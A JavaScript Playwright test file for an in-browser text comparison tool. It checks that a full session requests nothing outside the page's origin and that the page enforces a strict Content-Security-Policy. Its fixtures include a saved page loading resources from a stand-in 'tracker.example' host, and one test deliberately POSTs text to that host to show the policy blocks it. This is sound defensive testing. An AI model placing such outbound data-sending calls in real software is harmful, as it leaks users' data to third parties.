// Privacy: nothing leaves the browser. A full session — open, compare, pick examples, paste,
// open files (a .docx, and a web page full of links to other sites), swap, change an option,
// export the report, make and open a permalink — requests nothing beyond the page's own
// origin, under a Content-Security-Policy the page ships itself and never violates.
//
// The session runs twice: under the page's policy, where no violation may fire, and with the
// policy bypassed, where every request the code makes (pages and workers) is seen, so that
// the promise does not rest on the policy alone.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { start, CHROMIUM } from './harness.mjs';
import { openPage, rendered } from './page-helpers.mjs';
import { serve } from '../../scripts/serve.mjs';

const FORMATS = fileURLToPath(new URL('../fixtures/formats/', import.meta.url));

let browser;
let bypassing;
let unguarded;
before(async () => {
  browser = await start();
  bypassing = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
  // Workers take their policy from their own response, which bypassCSP does not reach: this
  // server sends none, and bypassCSP lifts the page's <meta>.
  unguarded = await serve({ port: 0, headers: { 'content-security-policy': '' } });
});
after(async () => {
  unguarded?.server.close();
  await bypassing?.close();
  await browser?.close();
});

/** Records CSP violations from the first moment of every document. */
function recordViolations() {
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`);
  });
}

/** Every request of the browser context (pages and their workers), and every socket. */
function recordRequests(context) {
  const requests = [];
  context.on('request', (request) => requests.push(request.url()));
  context.on('page', (page) => page.on('websocket', (socket) => requests.push(socket.url())));
  return requests;
}

// A page a user saved from a government site: links, images, scripts, styles and frames
// pointing elsewhere. Reading it must take its text and fetch none of them.
const PAGE_WITH_LINKS = `<!doctype html><html><head><meta charset="utf-8">
<title>关于春节放假的通知</title>
<link rel="stylesheet" href="https://tracker.example/site.css">
<script src="https://tracker.example/analytics.js"></script>
<style>@import url("https://tracker.example/import.css"); body { background: url(https://tracker.example/bg.png) }</style>
</head><body>
<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/2x.gif 2x">
<iframe src="https://tracker.example/frame.html"></iframe>
<p>关于春节放假的通知</p><p>一、放假时间：2月10日至17日。</p>
<p>二、<a href="https://tracker.example/more">详见附件</a>。</p>
<video poster="https://tracker.example/poster.jpg"></video>
<object data="https://tracker.example/x.swf"></object>
</body></html>`;

/** The whole session in `context`; returns every URL requested, from pages and workers. */
async function session(context, url) {
  const origin = new URL(url).origin;
  const requests = recordRequests(context);
  // Nothing may really leave, whatever the page tried.
  await context.route((target) => !target.href.startsWith(origin), (route) => route.abort());
  const { page, errors } = await openPage(context, url, { initScript: recordViolations });

  // Pick examples on both sides.
  const files = await page.$$eval('.example-select[data-side="left"] option', (options) =>
    options.map((o) => o.value).filter(Boolean),
  );
  assert.ok(files.length >= 3, 'the page offers examples');
  await rendered(page, () => page.selectOption('.example-select[data-side="left"]', files[2]));
  await rendered(page, () => page.selectOption('.example-select[data-side="right"]', files[1]));

  // Paste a text.
  await page.click('.paste-toggle[data-side="left"]');
  await page.fill('.paste-text[data-side="left"]', '关于春节放假的通知\n一、放假时间：2月10日至17日。\n二、详见附件。');
  await rendered(page, () => page.click('.paste-apply[data-side="left"]'));

  // Open files: a Word document and a web page that links to other sites.
  await rendered(page, () =>
    page.setInputFiles('.file-input[data-side="right"]', `${FORMATS}fangshan-2019-beijing-14th.docx`),
  );
  await rendered(page, () =>
    page.setInputFiles('.file-input[data-side="left"]', {
      name: 'saved-page.html',
      mimeType: 'text/html',
      buffer: Buffer.from(PAGE_WITH_LINKS),
    }),
  );
  assert.ok((await page.textContent('#pairs')).includes('放假时间'), 'the saved page was read');

  // Swap, and change an option.
  await rendered(page, () => page.click('#swap'));
  await rendered(page, () => page.click('#options input[name="ignorePunctuation"]'));

  // Export the report: a self-contained file that links nowhere either.
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
  const report = await readFile(await download.path(), 'utf8');
  const external = report.match(/\b(?:src|href|action|data|poster)\s*=\s*["']?\s*(?:https?:)?\/\/[^"'\s>]+/gi) ?? [];
  assert.deepEqual(external, [], 'the report loads nothing from anywhere');
  assert.doesNotMatch(report, /url\(\s*["']?\s*(?:https?:)?\/\//i, 'no remote url() in its styles');

  // Make a permalink, then open it in a fresh page.
  await page.click('#permalink');
  await page.waitForFunction(() => location.hash.startsWith('#z='));
  const link = page.url();
  assert.ok(link.startsWith(origin), link);
  const again = await openPage(context, link, { initScript: recordViolations });
  assert.ok((await again.page.textContent('#pairs')).includes('放假时间'), 'the permalink restores the texts');

  const violations = [];
  for (const p of [page, again.page]) violations.push(...(await p.evaluate(() => window.__violations)));
  assert.deepEqual([...errors, ...again.errors], []);
  await page.close();
  await again.page.close();
  const outside = requests.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
  assert.ok(requests.some((u) => u.endsWith('.wasm')), 'requests were recorded at all');
  return { outside, violations };
}

test('a full session under the page policy violates nothing and reaches no other origin', async () => {
  const { outside, violations } = await session(browser.context, browser.url);
  assert.deepEqual(violations, [], 'no CSP violation');
  assert.deepEqual(outside, [], 'every request goes to the page origin');
});

test('with the policy bypassed, the code itself still requests nothing outside the page origin', async () => {
  const context = await bypassing.newContext({ bypassCSP: true, acceptDownloads: true });
  try {
    const { outside } = await session(context, unguarded.url);
    assert.deepEqual(outside, [], 'every request goes to the page origin');
  } finally {
    await context.close();
  }
});

test('the page ships its own Content-Security-Policy, in the document and from the server', async () => {
  const page = await browser.context.newPage();
  const response = await page.goto(browser.url);
  const meta = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.ok(meta, 'index.html carries a CSP <meta>, so it holds on any static host');
  const directives = Object.fromEntries(
    meta
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
  assert.deepEqual(directives['default-src'], ["'self'"]);
  assert.deepEqual(directives['script-src'], ["'self'", "'wasm-unsafe-eval'"], 'no inline or remote script, no eval');
  assert.deepEqual(directives['connect-src'], ["'self'"], 'fetch and XHR reach the page origin only');
  assert.deepEqual(directives['object-src'], ["'none'"]);
  assert.deepEqual(directives['base-uri'], ["'none'"]);
  for (const name of ['default-src', 'script-src', 'connect-src', 'img-src', 'style-src', 'worker-src', 'form-action']) {
    for (const value of directives[name] ?? []) {
      assert.doesNotMatch(value, /^(\*|https?:|'unsafe-inline'|'unsafe-eval')$/, `${name} ${value}`);
    }
  }
  const header = response.headers()['content-security-policy'];
  assert.ok(header?.includes("default-src 'self'"), 'the local server sends a policy too');
  await page.close();
});

test('a page that tries to reach another origin is stopped by the policy', async () => {
  // The policy is not decoration: the same fetch the page could make is refused.
  const { page } = await openPage(browser.context, browser.url, { initScript: recordViolations });
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://tracker.example/collect', { method: 'POST', body: 'text' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  assert.equal(outcome, 'blocked');
  const violations = await page.evaluate(() => window.__violations);
  assert.ok(violations.some((v) => v.startsWith('connect-src')), violations.join('\n'));
  await page.close();
});
